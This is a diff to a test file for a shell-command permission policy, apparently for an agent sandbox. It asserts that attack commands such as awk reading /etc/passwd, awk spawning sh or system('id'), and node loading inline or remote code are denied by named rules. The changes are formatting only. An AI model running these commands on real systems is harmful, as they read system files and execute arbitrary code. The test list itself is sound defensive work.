@@ -110,7 +110,7 @@ const ATTACKS: Record<string, Attack[]> = {
     ['awk \'{ getline x < "/etc/passwd" }\' f', 'awk-file'],
     ['awk \'BEGIN { while ((getline line < "/etc/passwd") > 0) print line }\'', 'awk-file'],
     ['awk \'BEGIN { system("id") }\'', 'awk-exec'],
-    ["awk 'BEGIN { system\\\n(\"id\") }'", 'awk-continuation'],
+    ['awk \'BEGIN { system\\\n("id") }\'', 'awk-continuation'],
     ['awk \'{ print | "sh" }\' f', 'awk-exec'],
     ['awk \'BEGIN { "id" | getline x }\'', 'awk-exec'],
     ['awk \'BEGIN { print ENVIRON["HOME"] }\'', 'awk-environ'],
@@ -322,7 +322,7 @@ const ALLOWED: string[] = [
   'npm test -- src/a.test.ts',
   'npx jest src',
   'pytest tests/test_x.py::test_a -q',
-  "test -f f && echo yes",
+  'test -f f && echo yes',
   '[ -d src ] && ls src',
   'cat /dev/null',
   'ls -la'
@@ -333,9 +333,12 @@ describe('issue 14 attacks are denied with the rule that refuses them', () => {
     describe(group, () => {
       it.each(rows)('%j → %s', (command, rule) => {
         const decision = decide(command, policy, ctx);
-        expect({ command, decision: decision.decision, rule: decision.rule, reason: decision.reason }).toEqual(
-          expect.objectContaining({ decision: 'deny', rule })
-        );
+        expect({
+          command,
+          decision: decision.decision,
+          rule: decision.rule,
+          reason: decision.reason
+        }).toEqual(expect.objectContaining({ decision: 'deny', rule }));
       });
     });
   }
@@ -361,7 +364,12 @@ describe('inline code by another name needs the interpreter allowed by its bare 
     ["node --test --import 'data:text/javascript,process.exit(1)'", 'interpreter-inline'],
     ["node --test --experimental-loader='https://x/l.mjs'", 'interpreter-inline']
   ] as const)('%j → %s', (command, rule) => {
-    const testOnly = { ...narrow, allow: narrow.allow.filter(entry => entry.text !== 'node').concat([{ text: 'node --test', words: ['node', '--test'] }]) };
+    const testOnly = {
+      ...narrow,
+      allow: narrow.allow
+        .filter(entry => entry.text !== 'node')
+        .concat([{ text: 'node --test', words: ['node', '--test'] }])
+    };
     expect(decide(command, testOnly, ctx).rule).toBe(rule);
     expect(decide(command, narrow, ctx).decision).toBe('allow');
   });
